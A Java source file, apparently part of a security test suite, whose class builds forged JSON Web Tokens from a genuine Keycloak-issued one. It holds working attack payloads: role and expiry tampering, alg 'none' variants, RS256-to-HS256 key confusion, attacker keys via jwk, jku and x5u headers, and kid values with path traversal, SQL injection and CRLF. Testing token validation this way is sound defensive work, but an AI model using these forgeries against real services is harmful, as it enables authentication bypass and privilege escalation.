package dev.orderly.stories.security;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.math.BigInteger;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.RSAPublicKeySpec;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** Tokens with the claims of a genuine one, which Keycloak has not signed. */
final class Forgeries {

    private static final ObjectMapper JSON = new ObjectMapper();

    private final Map<String, Object> header;
    private final Map<String, Object> claims;
    private final String signature;
    private final Map<String, Object> key;
    private final KeyPair mine;
    private final Map<String, String> made = new LinkedHashMap<>();

    /**
     * @param genuine a token that is accepted
     * @param key the public key that verifies it, as a JWK
     * @param server the address of an attacker's server
     * @return tokens by the names of the attacks
     */
    static Map<String, String> of(String genuine, Map<String, Object> key, String server)
            throws GeneralSecurityException {
        var forgeries = new Forgeries(genuine, key);
        forgeries.tamper();
        forgeries.useNoSignature();
        forgeries.confuseAlgorithms();
        forgeries.bringMyKey(server);
        forgeries.trickTheKeyId();
        return forgeries.made;
    }

    private Forgeries(String genuine, Map<String, Object> key) throws GeneralSecurityException {
        String[] parts = genuine.split("\\.");
        this.header = decoded(parts[0]);
        this.claims = decoded(parts[1]);
        this.signature = parts[2];
        this.key = key;
        KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
        generator.initialize(2048);
        this.mine = generator.generateKeyPair();
    }

    private void tamper() {
        made.put("no token", "garbage");
        made.put("no claims", encoded(header) + ".." + signature);
        made.put("two parts", content(header, claims));
        made.put("an empty signature", content(header, claims) + ".");
        made.put("a signature of A", content(header, claims) + "." + "A".repeat(signature.length()));
        Object roles = Map.of("roles", List.of("customer", "clerk", "operator", "replicator"));
        made.put("more roles", content(header, with(claims, "realm_access", roles)) + "." + signature);
        made.put("a longer life", content(header, with(claims, "exp", Integer.MAX_VALUE)) + "." + signature);
    }

    private void useNoSignature() {
        for (String none : List.of("none", "None", "NONE", "nOnE", "")) {
            made.put("alg '%s'".formatted(none), content(with(header, "alg", none), claims) + ".");
        }
    }

    /** The public key as the secret of an HMAC. */
    private void confuseAlgorithms() throws GeneralSecurityException {
        byte[] modulus = Base64.getUrlDecoder().decode(text("n"));
        byte[] exponent = Base64.getUrlDecoder().decode(text("e"));
        byte[] der = KeyFactory.getInstance("RSA")
                .generatePublic(new RSAPublicKeySpec(new BigInteger(1, modulus), new BigInteger(1, exponent)))
                .getEncoded();
        String pem = "-----BEGIN PUBLIC KEY-----\n%s\n-----END PUBLIC KEY-----"
                .formatted(Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der));
        made.put("HS256 with the key as PEM", mac(header, pem.getBytes(UTF_8)));
        made.put("HS256 with the key as PEM and a line break", mac(header, (pem + "\n").getBytes(UTF_8)));
        made.put("HS256 with the key as DER", mac(header, der));
        made.put("HS256 with the key as JWK", mac(header, json(key).getBytes(UTF_8)));
        made.put("HS256 with the modulus", mac(header, modulus));
        made.put("HS256 with the modulus as text", mac(header, text("n").getBytes(UTF_8)));
    }

    private void bringMyKey(String server) throws GeneralSecurityException {
        String modulus = encoded(((RSAPublicKey) mine.getPublic()).getModulus().toByteArray());
        Object jwk = Map.of("kty", "RSA", "e", "AQAB", "n", modulus);
        made.put("another key of the same id", signed(header, claims));
        made.put("an embedded jwk", signed(with(header, "jwk", jwk), claims));
        made.put("a jku", signed(with(header, "jku", server + "/jwks"), claims));
        made.put("an x5u", signed(with(header, "x5u", server + "/chain.pem"), claims));
        made.put("an x5c", signed(with(header, "x5c", List.of(modulus)), claims));
        made.put("a foreign issuer", signed(header, with(claims, "iss", server)));
    }

    private void trickTheKeyId() throws GeneralSecurityException {
        for (String id : List.of("unknown", "", "../../../dev/null", "' or '1'='1", "a\r\nb", "a\u0000b")) {
            made.put("the kid " + id.strip(), signed(with(header, "kid", id), claims));
        }
        made.put("the kid of an empty file", mac(with(header, "kid", "../../../dev/null"), new byte[1]));
        Map<String, Object> withoutId = new HashMap<>(header);
        withoutId.remove("kid");
        made.put("no kid", signed(withoutId, claims));
    }

    private String signed(Map<String, Object> ofHeader, Map<String, Object> ofClaims) throws GeneralSecurityException {
        String content = content(ofHeader, ofClaims);
        Signature signer = Signature.getInstance("SHA256withRSA");
        signer.initSign(mine.getPrivate());
        signer.update(content.getBytes(UTF_8));
        return content + "." + encoded(signer.sign());
    }

    private String mac(Map<String, Object> ofHeader, byte[] secret) throws GeneralSecurityException {
        String content = content(with(ofHeader, "alg", "HS256"), claims);
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(secret, "HmacSHA256"));
        return content + "." + encoded(mac.doFinal(content.getBytes(UTF_8)));
    }

    private String text(String part) {
        return String.valueOf(key.get(part));
    }

    private static Map<String, Object> with(Map<String, Object> known, String name, Object value) {
        Map<String, Object> changed = new HashMap<>(known);
        changed.put(name, value);
        return changed;
    }

    private static String content(Map<String, Object> header, Map<String, Object> claims) {
        return encoded(header) + "." + encoded(claims);
    }

    private static Map<String, Object> decoded(String part) {
        try {
            return JSON.readValue(new String(Base64.getUrlDecoder().decode(part), UTF_8), new TypeReference<>() {});
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException(part, e);
        }
    }

    private static String json(Map<String, Object> object) {
        try {
            return JSON.writeValueAsString(object);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException(e);
        }
    }

    private static String encoded(Map<String, Object> object) {
        return encoded(json(object).getBytes(UTF_8));
    }

    private static String encoded(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }
}
